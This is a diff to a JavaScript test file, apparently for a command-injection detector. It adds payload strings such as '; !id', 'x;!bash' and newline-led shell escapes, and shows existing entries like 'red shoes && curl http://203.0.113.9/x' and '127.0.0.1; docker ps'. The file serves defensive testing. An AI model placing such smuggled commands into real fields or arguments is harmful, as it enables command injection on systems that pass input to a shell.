@@ -38,6 +38,12 @@ describe('a command in command position', () => {
 
   test.each([
     'Ann Smith|cat notes.txt',
+    '; !id',
+    "'; !id #",
+    'a.txt|!id',
+    '\n:!id',
+    'x;!bash',
+    '\n\\! id',
     'red shoes;ping -c 9 203.0.113.9',
     'red shoes && curl http://203.0.113.9/x',
     '127.0.0.1; docker ps',
